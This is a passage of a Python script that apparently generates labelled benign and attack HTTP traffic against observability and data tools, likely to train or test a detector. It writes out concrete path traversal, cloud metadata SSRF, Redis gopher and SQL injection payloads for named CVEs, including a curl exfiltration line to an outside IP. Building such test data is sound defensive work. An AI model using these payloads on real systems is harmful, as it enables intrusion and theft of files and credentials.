            sql = fill(c, c.pick(CH_SQL))
            ex = [["X-ClickHouse-User", c.pick(["grafana", "analyst", "default"])], ["X-ClickHouse-Key", c.tok(20)]]
            ua = c.pick(["clickhouse-connect/0.8.8 (lv:py/3.11.9; mode:pandas; os:linux)", "Grafana/11.3.1", "curl/8.5.0", "Go-http-client/1.1"])
            k = c.rng.randint(0, 2)
            if k == 0:
                c.emit("benign", "dev-content", "GET", "/?" + qs([("database", "default"), ("default_format", "JSONCompact"), ("query", sql)], encp), hdrs(c, host, ua, extra=ex))
            elif k == 1:
                c.emit("benign", "dev-content", "POST", "/?database=analytics&wait_end_of_query=1", hdrs(c, host, ua, "text/plain; charset=utf-8", extra=ex), sql)
            else:
                rows = "\n".join(jdump({"ts": f"2026-12-05 07:{c.rng.randint(0, 59):02d}:00", "user_id": c.rng.randint(1, 90000), "event": c.pick(["page_view", "add_to_cart", "purchase"]), "path": c.pick(NGINX_PATHS)}) for _ in range(4)) + "\n"
                c.emit("benign", "dev-content", "POST", "/?" + qs([("query", "INSERT INTO events FORMAT JSONEachRow")], encp), hdrs(c, host, ua, "application/x-ndjson", extra=ex), rows)
        elif m == 5:
            host = c.pick(H_INFLUX)
            c.emit("benign", "dev-content", "GET", "/query?" + qs([("db", "telegraf"), ("q", c.pick(INFLUXQL)), ("epoch", "ms")], encp), hdrs(c, host, "Grafana/11.3.1", extra=[["Authorization", "Basic " + base64.b64encode(b"grafana:" + c.tok(12).encode()).decode()]]))
        elif m == 6:
            host = c.pick(H_GRAFANA)
            typ = c.pick(["grafana-postgresql-datasource", "mysql", "mssql"])
            raw = c.pick(["SELECT\n  $__timeGroupAlias(created_at, $__interval),\n  count(*) AS orders\nFROM orders\nWHERE $__timeFilter(created_at) AND status IN ($status)\nGROUP BY 1\nORDER BY 1",
                          "SELECT $__time(ts), value AS \"queue depth\", queue AS metric FROM queue_stats WHERE $__timeFilter(ts) ORDER BY ts",
                          "SELECT hostname, max(cpu) AS cpu FROM host_stats WHERE $__unixEpochFilter(time_sec) GROUP BY hostname ORDER BY cpu DESC LIMIT 10"])
            body = {"queries": [{"refId": "A", "datasource": ds_ref(c, typ), "rawSql": raw, "format": c.pick(["time_series", "table"]), "rawQuery": True, "editorMode": "code", "datasourceId": c.rng.randint(1, 9), "intervalMs": 60000, "maxDataPoints": 900}],
                    "from": str((BASE - 21600) * 1000), "to": str(BASE * 1000)}
            c.emit("benign", "dev-content", "POST", f"/api/ds/query?ds_type={typ}&requestId=SQR{c.rng.randint(100, 999)}", hdrs(c, host, ctype="application/json", extra=g_extra(c)), jdump(body))
        elif m == 7:
            host = c.pick(H_ES)
            q = c.pick(["SELECT service.name, COUNT(*) AS errors FROM \"logs-*\" WHERE log.level = 'error' GROUP BY service.name ORDER BY errors DESC LIMIT 10",
                        "SELECT \"@timestamp\", message FROM \"logs-app-*\" WHERE MATCH(message, 'timeout') AND \"@timestamp\" > NOW() - INTERVAL 1 HOUR ORDER BY \"@timestamp\" DESC"])
            if "opensearch" in host:
                c.emit("benign", "dev-content", "POST", "/_plugins/_sql?format=jdbc", hdrs(c, host, "opensearch-py/2.7.1", "application/json", extra=es_extra(c)), jdump({"query": q}))
            else:
                c.emit("benign", "dev-content", "POST", "/_sql?format=txt", hdrs(c, host, "curl/8.5.0", "application/json", extra=es_extra(c)), jdump({"query": q, "fetch_size": 100}))
        elif m in (8, 9):
            cells = [nb_cell(c, c.pick(MD_CELLS), "markdown")] if c.rng.random() < 0.5 else []
            k = 1
            for src in c.rng.sample(PY_CELLS, c.rng.randint(1, 2)) + c.rng.sample(SHELL_CELLS, c.rng.randint(1, 2)):
                cells.append(nb_cell(c, src, n=k))
                k += 1
            jupyter_save(c, "dev-content", cells)
        elif m == 10:
            host = c.pick(H_ARGO)
            ex = [["Accept", "application/json"], ["Authorization", f"Bearer {c.tok(36)}.{c.tok(120)}.{c.tok(43)}"]]
            tpl = c.pick([
                {"name": "count", "inputs": {"parameters": [{"name": "file"}]}, "container": {"image": "alpine:3.20", "command": ["sh", "-c"], "args": ['echo "processing {{inputs.parameters.file}}" && wc -l /data/*.csv | tail -n 1 > /tmp/count.txt']}},
                {"name": "sync", "container": {"image": "amazon/aws-cli:2.22.0", "command": ["/bin/sh", "-c"], "args": ["aws s3 sync s3://acme-raw/exports/ /work/in/ --exclude '*' --include '*.parquet' && ls -la /work/in | head"]}},
                {"name": "gen", "script": {"image": "python:3.12-slim", "command": ["python"], "source": "import json, random\nrandom.seed(42)\nprint(json.dumps([random.randint(1, 10) for _ in range(5)]))\n"}},
                {"name": "report", "script": {"image": "bash:5.2", "command": ["bash"], "source": "set -euo pipefail\nfor t in orders customers; do\n  echo \"rows in $t: $(cat /data/$t.csv | wc -l)\"\ndone\n"}},
            ])
            wf = {"metadata": {"generateName": "adhoc-", "namespace": "argo"}, "spec": {"entrypoint": tpl["name"], "arguments": {"parameters": [{"name": "file", "value": "orders.csv"}]} if "inputs" in tpl else {}, "templates": [tpl]}}
            c.emit("benign", "dev-content", "POST", "/api/v1/workflows/argo", hdrs(c, host, ctype="application/json", extra=ex), jdump({"workflow": wf}))
        elif m == 11:
            host = c.pick(H_SUPERSET)
            body = {"datasource": {"id": c.rng.randint(1, 90), "type": "table"}, "force": False,
                    "queries": [{"filters": [], "extras": {"where": c.pick(["country = 'FR' AND revenue > 1000", "order_date >= '2026-11-01' AND channel NOT IN ('test', 'internal')"]), "having": ""},
                                 "metrics": [{"expressionType": "SQL", "sqlExpression": c.pick(["SUM(CASE WHEN status = 'refunded' THEN 1 ELSE 0 END) * 1.0 / COUNT(*)", "COUNT(DISTINCT customer_id)"]), "label": "metric"}],
                                 "columns": ["country"], "row_limit": 1000}], "result_format": "json", "result_type": "full"}
            c.emit("benign", "dev-content", "POST", "/api/v1/chart/data", hdrs(c, host, ctype="application/json", extra=ss_extra(c)), jdump(body))
        else:
            host = c.pick(H_SUPERSET)
            body = {"database": c.rng.randint(1, 6), "schema": "analytics", "table_name": c.pick(["v_weekly_revenue", "v_active_customers"]), "sql": c.pick(NATIVE_SQL), "owners": [c.rng.randint(1, 30)]}
            c.emit("benign", "dev-content", "POST", "/api/v1/dataset/", hdrs(c, host, ctype="application/json", extra=ss_extra(c)), jdump(body))


def benign():
    c = Corpus(SEED + 1)
    b_promql(c, 52)
    b_grafana(c, 62)
    b_alerting(c, 24)
    b_logql(c, 40)
    b_traces(c, 28)
    b_kibana(c, 40)
    b_es(c, 56)
    b_influx(c, 22)
    b_otlp(c, 32)
    b_logs(c, 42)
    b_metrics(c, 21)
    b_kafka(c, 18)
    b_jupyter(c, 18)
    b_airflow(c, 20)
    b_mlflow(c, 20)
    b_argo(c, 14)
    b_bi(c, 27)
    b_dev(c, 78)
    return c


# =========================================================================== ATTACKS


def A(c, cat, sub, method, host, uri, body=None, ctype=None, extra=(), ua=None, accept=None):
    c.emit(cat, sub, method, uri, hdrs(c, host, ua or c.pick(UA_ATTACK), ctype, accept or "*/*", extra=extra), body)


GRAFANA_PLUGINS = ["alertlist", "annolist", "barchart", "bargauge", "candlestick", "cloudwatch", "dashlist", "elasticsearch", "gauge", "geomap", "gettingstarted",
                   "grafana-azure-monitor-datasource", "graph", "heatmap", "histogram", "influxdb", "jaeger", "logs", "loki", "mssql", "mysql", "news", "nodeGraph",
                   "opentsdb", "piechart", "pluginlist", "postgres", "prometheus", "stackdriver", "stat", "state-timeline", "status-history", "table", "table-old",
                   "tempo", "testdata", "text", "timeseries", "welcome", "xychart", "zipkin"]
LFI_TARGETS = ["etc/passwd", "etc/grafana/grafana.ini", "var/lib/grafana/grafana.db", "proc/self/environ", "proc/self/cmdline", "usr/share/grafana/conf/defaults.ini",
               "etc/shadow", "root/.ssh/id_rsa", "home/grafana/.bash_history", "var/log/grafana/grafana.log", "etc/hosts", "proc/self/cwd/conf/defaults.ini"]


def a_lfi(c):
    # Grafana CVE-2021-43798: unauthenticated plugin asset traversal
    styles = ["raw", "2f", "2e2e2f", "2e2e", "2F", "hash", "23", "dbl", "dot2e", "win", "2e2e5c", "mixed"]
    for i in range(26):
        p = GRAFANA_PLUGINS[(i * 7) % len(GRAFANA_PLUGINS)]
        t = LFI_TARGETS[i % len(LFI_TARGETS)]
        d = c.rng.randint(8, 16)
        st = styles[i % len(styles)]
        if st == "raw":
            u = f"/public/plugins/{p}/" + "../" * d + t
        elif st == "2f":
            u = f"/public/plugins/{p}/" + "..%2f" * d + t.replace("/", "%2f")
        elif st == "2e2e2f":
            u = f"/public/plugins/{p}/" + "%2e%2e%2f" * d + t
        elif st == "2e2e":
            u = f"/public/plugins/{p}/" + "%2e%2e/" * d + t
        elif st == "2F":
            u = f"/public/plugins/{p}/" + "..%2F" * d + t
        elif st == "hash":
            u = f"/public/plugins/{p}/#/" + "../" * d + t
        elif st == "23":
            u = f"/public/plugins/{p}/%23/" + "..%2f" * d + t
        elif st == "dbl":
            u = f"/public/plugins/{p}/" + "..%252f" * d + t.replace("/", "%252f")
        elif st == "dot2e":
            u = f"/public/plugins/{p}/" + ".%2e/" * d + t
        elif st == "win":
            u = f"/public/plugins/{p}/" + "..%5c" * d + c.pick(["windows%5cwin.ini", "Program%20Files%5cGrafanaLabs%5cgrafana%5cconf%5cdefaults.ini"])
        elif st == "2e2e5c":
            u = f"/public/plugins/{p}/" + "%2e%2e%5c" * d + "windows%5cwin.ini"
        else:
            u = f"/public/plugins/{p}/" + "../..%2f" * (d // 2) + t + c.pick(["", "?v=1", "%00.png"])
        A(c, "lfi", "grafana-plugins", "GET", c.pick(H_GRAFANA), u)
    # Grafana CVE-2024-9264: SQL expressions executed by DuckDB read local files
    for e in ["SELECT * FROM read_csv_auto('/etc/passwd')", "SELECT content FROM read_text('/var/lib/grafana/grafana.db')",
              "SELECT * FROM read_blob('/root/.aws/credentials')", "SELECT * FROM read_csv('/proc/self/environ', sep='\\0', header=false)"]:
        body = {"queries": [{"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__", "name": "Expression"}, "type": "sql", "hide": False, "expression": e, "window": ""}],
                "from": str((BASE - 3600) * 1000), "to": str(BASE * 1000)}
        A(c, "lfi", "grafana-duckdb", "POST", c.pick(H_GRAFANA), "/api/ds/query?ds_type=__expr__&expression=true&requestId=Q101", jdump(body), "application/json", extra=g_extra(c, False))
    # Kibana CVE-2018-17246: console api_server LFI
    for a in ["../../../../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "../../../../../../../../../../../tmp/poc.js",
              "../../../../../../../../../../../proc/self/environ"]:
        A(c, "lfi", "kibana-console", "GET", c.pick(H_KIBANA), "/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=" + a, extra=[["kbn-xsrf", "true"]])
    # Metabase CVE-2021-41277: custom GeoJSON map URL reads local files
    for u in ["file:/etc/passwd", "file:///etc/passwd", "file%3A%2F%2F%2Fetc%2Fpasswd", "file:///proc/self/environ", "FILE:///etc/shadow", "jar:file:///app/metabase.jar!/log4j2.xml"]:
        A(c, "lfi", "metabase-geojson", "GET", c.pick(H_METABASE), "/api/geojson?url=" + u)
    # MLflow: CVE-2023-1177, CVE-2023-2780, CVE-2023-6909, CVE-2024-1483 and get-artifact traversal
    mh = H_MLFLOW
    for src in ["file:///etc/", "//proc/self/root/etc/", "file:///root/.ssh/", "file:///tmp/#/../../../../../../../../etc/", "mlflow-artifacts:/../../../../../../../../etc/"]:
        A(c, "lfi", "mlflow-artifacts", "POST", c.pick(mh), "/ajax-api/2.0/mlflow/model-versions/create", jdump({"name": "poc", "source": src}), "application/json")
    A(c, "lfi", "mlflow-artifacts", "POST", c.pick(mh), "/api/2.0/mlflow/experiments/create", jdump({"name": "poc-exp", "artifact_location": "http:///#/../../../../../../../../../../../etc/"}), "application/json")
    A(c, "lfi", "mlflow-artifacts", "GET", c.pick(mh), f"/get-artifact?path=../../../../../../../../etc/passwd&run_uuid={c.hex(32)}")
    A(c, "lfi", "mlflow-artifacts", "GET", c.pick(mh), "/model-versions/get-artifact?path=..%2f..%2f..%2f..%2f..%2fetc%2fshadow&name=poc&version=1")
    A(c, "lfi", "mlflow-artifacts", "GET", c.pick(mh), "/ajax-api/2.0/mlflow-artifacts/artifacts/..%2F..%2F..%2F..%2F..%2F..%2Fhome%2Fmlflow%2F.aws%2Fcredentials")
    # Apache Flink CVE-2020-17519 (double-encoded) and CVE-2020-17518 (upload filename)
    for t in ["etc%252fpasswd", "proc%252fself%252fenviron", "opt%252fflink%252fconf%252fflink-conf.yaml"]:
        A(c, "lfi", "flink", "GET", c.pick(["flink.internal.example.net:8081", "flink-jobmanager.data.svc:8081"]), "/jobmanager/logs/" + "..%252f" * 12 + t)
    bnd = "----WebKitFormBoundary" + c.tok(16)
    body = f"--{bnd}\r\nContent-Disposition: form-data; name=\"jarfile\"; filename=\"../../../../../../tmp/poc\"\r\nContent-Type: application/octet-stream\r\n\r\nsuccess\r\n--{bnd}--\r\n"
    A(c, "lfi", "flink", "POST", "flink.internal.example.net:8081", "/jars/upload", body, f"multipart/form-data; boundary={bnd}")
    # Jupyter files/contents/nbconvert traversal
    for u in ["/files/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "/api/contents/..%2f..%2f..%2f..%2froot%2f.ssh%2fid_rsa?type=file&format=text",
              "/nbconvert/html/..%2f..%2f..%2f..%2fetc%2fpasswd?download=false", f"/user/{c.pick(USERS)}/files/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/view/..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron"]:
        A(c, "lfi", "jupyter", "GET", c.pick(H_JUPYTER), u, extra=[["Cookie", f"_xsrf=2|{c.hex(8)}|{c.hex(32)}|{BASE}"]])
    # Elasticsearch CVE-2015-5531 snapshot traversal, CVE-2015-3337 site plugins, file: repositories
    for u in ["/_snapshot/pwn/backdata%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "/_snapshot/test/backdata%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fproc%2fself%2fenviron",
              "/_plugin/head/../../../../../../../../../etc/passwd", "/_plugin/kopf/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"]:
        A(c, "lfi", "elasticsearch", "GET", c.pick(H_ES), u)
    A(c, "lfi", "elasticsearch", "PUT", c.pick(H_ES), "/_snapshot/loot", jdump({"type": "url", "settings": {"url": "file:///etc/"}}), "application/json")
    A(c, "lfi", "elasticsearch", "PUT", c.pick(H_ES), "/_snapshot/loot2", jdump({"type": "fs", "settings": {"location": "/usr/share/elasticsearch/repo/../../../../../etc", "compress": False}}), "application/json")
    # Solr: replication filecontent, remote streaming of local files
    A(c, "lfi", "solr", "GET", c.pick(H_SOLR), "/solr/core0/replication?command=filecontent&file=../../../../../../../../../../etc/passwd&wt=filestream&generation=1")
    A(c, "lfi", "solr", "GET", c.pick(H_SOLR), "/solr/db/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd")
    A(c, "lfi", "solr", "POST", c.pick(H_SOLR), "/solr/logs/select", "q=*:*&stream.url=file%3A%2F%2F%2Fproc%2Fself%2Fenviron&wt=json", "application/x-www-form-urlencoded")
    # Druid: local input source; Superset: sqlite URI on a local file
    body = {"type": "index", "spec": {"type": "index", "ioConfig": {"type": "index", "inputSource": {"type": "local", "baseDir": "/etc", "filter": "passwd"}, "inputFormat": {"type": "regex", "pattern": "(.*)", "columns": ["raw"]}},
                                      "dataSchema": {"dataSource": "sample", "timestampSpec": {"column": "!!!_no_such_column_!!!", "missingValue": "2010-01-01T00:00:00Z"}, "dimensionsSpec": {}}},
            "samplerConfig": {"numRows": 500, "timeoutMs": 15000}}
    A(c, "lfi", "druid", "POST", c.pick(H_DRUID), "/druid/indexer/v1/sampler?for=connect", jdump(body), "application/json")
    body["spec"]["ioConfig"]["inputSource"] = {"type": "http", "uris": ["file:///etc/shadow"]}
    A(c, "lfi", "druid", "POST", c.pick(H_DRUID), "/druid/indexer/v1/sampler?for=connect", jdump(body), "application/json")
    A(c, "lfi", "superset", "POST", c.pick(H_SUPERSET), "/api/v1/database/test_connection/", jdump({"database_name": "x", "sqlalchemy_uri": "sqlite:////etc/passwd", "impersonate_user": False}), "application/json", extra=ss_extra(c))
    # generic download/export endpoints of reporting and log tools
    for m, u, b in [
        ("GET", "/api/reports/download?file=../../../../../../etc/passwd", None),
        ("GET", "/api/exports/download?name=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow", None),
        ("GET", "/api/v1/files?path=....//....//....//....//etc/passwd", None),
        ("GET", "/api/v1/logs/download?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini", None),
        ("GET", "/api/report?template=../../../../../etc/passwd%00.html", None),
        ("GET", "/download?f=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron", None),
        ("GET", "/api/datasets/export?path=/etc/passwd&format=csv", None),
        ("GET", "/static/..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd", None),
        ("GET", "/api/logs?file=/var/log/../../etc/shadow&lines=100", None),
        ("POST", "/api/v1/notebooks/import", jdump({"path": "../../../../../../root/.aws/credentials", "format": "raw"})),
        ("GET", "/api/v1/files/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", None),
        ("GET", "/solr/..;/..;/WEB-INF/web.xml", None),
    ]:
        A(c, "lfi", "downloads", m, c.pick(["reports.acme-corp.com", "logs.example.org", "data-portal.example.io", "bi.example.org"]), u, b, "application/json" if b else None)


META = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/", "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/latest/user-data", "http://0251.0376.0251.0376/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://instance-data/latest/meta-data/iam/security-credentials/", "http://169.254.170.2/v2/credentials/"]


def a_ssrf(c):
    # Grafana: datasource pointing at cloud metadata, then read through the datasource proxy
    for i in range(10):
        url = META[i % len(META)]
        typ = c.pick(["prometheus", "elasticsearch", "loki", "influxdb", "marcusolsson-json-datasource"])
        body = {"name": f"ds-{c.tok(6)}", "type": typ, "access": "proxy", "url": url, "basicAuth": False, "isDefault": False, "jsonData": {}}
        if "google" in url:
            body["jsonData"] = {"httpHeaderName1": "Metadata-Flavor"}
            body["secureJsonData"] = {"httpHeaderValue1": "Google"}
        if "azure" in url:
            body["jsonData"] = {"httpHeaderName1": "Metadata"}
            body["secureJsonData"] = {"httpHeaderValue1": "true"}
        A(c, "ssrf", "grafana-datasource", c.pick(["POST", "PUT"]), c.pick(H_GRAFANA), "/api/datasources" + ("" if c.rng.random() < 0.6 else f"/{c.rng.randint(2, 20)}"), jdump(body), "application/json", extra=g_extra(c, False))
    for u in ["/api/datasources/proxy/3/latest/meta-data/iam/security-credentials/", "/api/datasources/proxy/uid/pwn/computeMetadata/v1/instance/service-accounts/default/token",
              "/api/datasources/proxy/7/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"]:
        A(c, "ssrf", "grafana-datasource", "GET", c.pick(H_GRAFANA), u, extra=g_extra(c, False))
    # Grafana CVE-2020-13379 avatar redirect chain; CVE-2025-4123 open redirect / render SSRF
    A(c, "ssrf", "grafana-avatar", "GET", c.pick(H_GRAFANA), "/avatar/test?d=redirect.rhynorater.com%3F%3B%2Fbp.blogspot.com%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F")
    A(c, "ssrf", "grafana-avatar", "GET", c.pick(H_GRAFANA), "/avatar/1?d=redirect.rhynorater.com?;/bp.blogspot.com/metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys")
    A(c, "ssrf", "grafana-avatar", "GET", c.pick(H_GRAFANA), f"/public/..%2F%5C{c.oast()}%2F%3F%2F..%2F..")
    A(c, "ssrf", "grafana-avatar", "GET", c.pick(H_GRAFANA), "/render/public/..%252f%255C169.254.169.254%252flatest%252fmeta-data%252f%253f%252f..%252f..")
    # Elasticsearch/OpenSearch: remote reindex, watcher webhook, URL repository; Kibana/OpenSearch connectors
    for h in ["http://169.254.169.254:80", "http://metadata.google.internal:80", "http://[::ffff:169.254.169.254]:80", "http://0xa9fea9fe:80"]:
        body = {"source": {"remote": {"host": h, "username": "x", "password": "x"}, "index": "latest", "query": {"match_all": {}}}, "dest": {"index": "loot"}}
        A(c, "ssrf", "elasticsearch", "POST", c.pick(H_ES), "/_reindex", jdump(body), "application/json")
    A(c, "ssrf", "elasticsearch", "PUT", c.pick(H_ES), "/_watcher/watch/w1", jdump({"trigger": {"schedule": {"interval": "1m"}}, "input": {"http": {"request": {"scheme": "http", "host": "169.254.169.254", "port": 80, "path": "/latest/meta-data/iam/security-credentials/"}}},
                                                                                 "actions": {"log": {"logging": {"text": "{{ctx.payload}}"}}}}), "application/json")
    A(c, "ssrf", "elasticsearch", "PUT", c.pick(H_ES), "/_snapshot/meta", jdump({"type": "url", "settings": {"url": "http://169.254.169.254/latest/meta-data/"}}), "application/json")
    A(c, "ssrf", "kibana", "POST", c.pick(H_KIBANA), "/api/actions/connector", jdump({"name": "hook", "connector_type_id": ".webhook", "config": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "method": "get", "hasAuth": False}, "secrets": {}}), "application/json", extra=[["kbn-xsrf", "true"]])
    A(c, "ssrf", "kibana", "POST", "dashboards.opensearch.internal.example.net", "/api/alerting/destinations", jdump({"name": "d", "type": "custom_webhook", "custom_webhook": {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "header_params": {"Metadata-Flavor": "Google"}}}), "application/json", extra=[["osd-xsrf", "true"]])
    # Metabase GeoJSON SSRF
    for u in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2Finstance%2Fservice-accounts%2Fdefault%2Ftoken",
              "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20id%0A%0A%0D%0A"]:
        A(c, "ssrf", "metabase-geojson", "GET", c.pick(H_METABASE), "/api/geojson?url=" + u)
    # jupyter-server-proxy (CVE-2024-28179 era): arbitrary host proxying
    for u in ["/proxy/169.254.169.254/latest/meta-data/iam/security-credentials/", f"/user/{c.pick(USERS)}/proxy/169.254.169.254:80/latest/api/token", "/proxy/metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys"]:
        A(c, "ssrf", "jupyter-proxy", "GET", c.pick(H_JUPYTER), u)
    # Prometheus blackbox exporter /probe
    for t in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "gopher://127.0.0.1:6379/_INFO"]:
        A(c, "ssrf", "blackbox-exporter", "GET", c.pick(["blackbox.monitoring.svc:9115", "probe.example.org"]), "/probe?module=http_2xx&debug=true&target=" + enc(t))
    # Solr replication leader/master URL and shards parameter
    A(c, "ssrf", "solr", "GET", c.pick(H_SOLR), "/solr/core0/replication?command=fetchindex&masterUrl=http://169.254.169.254/latest/meta-data/%23")
    A(c, "ssrf", "solr", "GET", c.pick(H_SOLR), f"/solr/core0/replication?command=fetchindex&leaderUrl=http://{c.oast()}/solr/core0")
    A(c, "ssrf", "solr", "GET", c.pick(H_SOLR), "/solr/db/select?q=*:*&shards=http://169.254.169.254/latest/meta-data/iam/security-credentials/%23")
    A(c, "ssrf", "solr", "GET", c.pick(H_SOLR), "/solr/db/select?q=*:*&shards=metadata.google.internal:80/computeMetadata/v1/%23&shards.qt=/")
    # Druid HTTP input source, Kafka Connect HTTP sink, Airflow connection test, Redash URL datasource, Grafana webhook contact point, Alertmanager config
    body = {"type": "index", "spec": {"type": "index", "ioConfig": {"type": "index", "inputSource": {"type": "http", "uris": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/"]}, "inputFormat": {"type": "regex", "pattern": "(.*)", "columns": ["raw"]}},
                                      "dataSchema": {"dataSource": "sample", "timestampSpec": {"column": "!!!_no_such_column_!!!", "missingValue": "2010-01-01T00:00:00Z"}, "dimensionsSpec": {}}}, "samplerConfig": {"numRows": 10, "timeoutMs": 15000}}
    A(c, "ssrf", "druid", "POST", c.pick(H_DRUID), "/druid/indexer/v1/sampler?for=connect", jdump(body), "application/json")
    body["spec"]["ioConfig"]["inputSource"]["uris"] = ["http://100.100.100.200/latest/meta-data/ram/security-credentials/"]
    A(c, "ssrf", "druid", "POST", c.pick(H_DRUID), "/druid/indexer/v1/sampler?for=connect", jdump(body), "application/json")
    A(c, "ssrf", "kafka-connect", "POST", "kafka-connect.internal.example.net:8083", "/connectors", jdump({"name": "http-sink", "config": {"connector.class": "io.confluent.connect.http.HttpSinkConnector", "topics": "orders", "http.api.url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "request.method": "GET", "tasks.max": "1"}}), "application/json")
    A(c, "ssrf", "airflow", "POST", c.pick(H_AIRFLOW), "/api/v1/connections/test", jdump({"connection_id": "x", "conn_type": "http", "host": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}), "application/json", extra=af_extra(c))
    A(c, "ssrf", "airflow", "POST", c.pick(H_AIRFLOW), "/api/v1/connections/test", jdump({"connection_id": "x", "conn_type": "http", "host": "metadata.google.internal", "schema": "http", "extra": jdump({"endpoint": "/computeMetadata/v1/instance/service-accounts/default/token", "headers": {"Metadata-Flavor": "Google"}})}), "application/json", extra=af_extra(c))
    A(c, "ssrf", "redash", "POST", c.pick(H_REDASH), "/api/query_results", jdump({"data_source_id": 4, "query": "url: http://169.254.169.254/latest/meta-data/iam/security-credentials/\npath: ''", "max_age": 0}), "application/json", extra=[["Authorization", f"Key {c.tok(40)}"]])
    A(c, "ssrf", "redash", "POST", c.pick(H_REDASH), "/api/data_sources", jdump({"name": "j", "type": "url", "options": {"url": "http://[fd00:ec2::254]/latest/meta-data/"}}), "application/json", extra=[["Authorization", f"Key {c.tok(40)}"]])
    A(c, "ssrf", "grafana-datasource", "POST", c.pick(H_GRAFANA), "/api/v1/provisioning/contact-points", jdump({"name": "x", "type": "webhook", "settings": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "httpMethod": "GET"}}), "application/json", extra=g_extra(c, False))
    yaml = ("alertmanager_config: |\n  route:\n    receiver: r\n  receivers:\n    - name: r\n      webhook_configs:\n"
            "        - url: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n          send_resolved: true\n")
    A(c, "ssrf", "alertmanager", "POST", "mimir.internal.example.net", "/api/v1/alerts", yaml, "application/yaml", extra=[["X-Scope-OrgID", "tenant-a"]])
    A(c, "ssrf", "grafana-datasource", "POST", c.pick(H_GRAFANA), "/api/datasources", jdump({"name": "r", "type": "redis-datasource", "access": "proxy", "url": "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0A"}), "application/json", extra=g_extra(c, False))
    A(c, "ssrf", "metabase-geojson", "GET", c.pick(H_METABASE), "/api/geojson?url=dict://127.0.0.1:11211/stats")


SQLI = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "FR' UNION SELECT username, password_hash FROM users--",
    "x') OR ('1'='1",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "'; SELECT pg_sleep(10)--",
    "1) UNION ALL SELECT NULL,NULL,version()--",
    "' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- -",
    "' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    "'; EXEC xp_cmdshell 'whoami'--",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/$(id|base64)'--",
    "1 UnIoN/**/SeLeCt/**/1,table_name,3/**/FrOm/**/information_schema.tables",
    "-1'/*!50000UNION*//*!50000SELECT*/1,2,group_concat(schema_name) FROM information_schema.schemata-- -",
    "'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'",
    "1 AND (SELECT 5851 FROM(SELECT COUNT(*),CONCAT(0x7176706b71,(SELECT (ELT(5851=5851,1))),0x716a6b7171,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    "admin'--",
    "' or true--",
    "1' ORDER BY 10-- -",
    "') UNION ALL SELECT name, engine FROM system.tables--",
    "x' AND 1=(SELECT COUNT(*) FROM users WHERE substring(password,1,1)='a')--",
    "1;DROP TABLE events--",
    "%' AND 1=0 UNION SELECT NULL,concat(login,':',password) FROM users-- ",
    "' UNION\nSELECT\n1,2,3--",
    "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
    "' AND 1=CAST((SELECT current_user) AS int)--",
    "checkout' AND sleep(3) AND '1'='1",
    "x' UNION ALL SELECT * FROM url('http://203.0.113.9/x', 'TSV', 'a String')--",
    "1 OR 1=1 LIMIT 1 OFFSET 0--",
]


def sqli_carrier(c, k, p):
    """Place a SQL injection payload where dashboards and data APIs take user values."""
    if k == 0:
        uid = c.tok(9, "abcdefghijklmnopqrstuvwxyz0123456789")
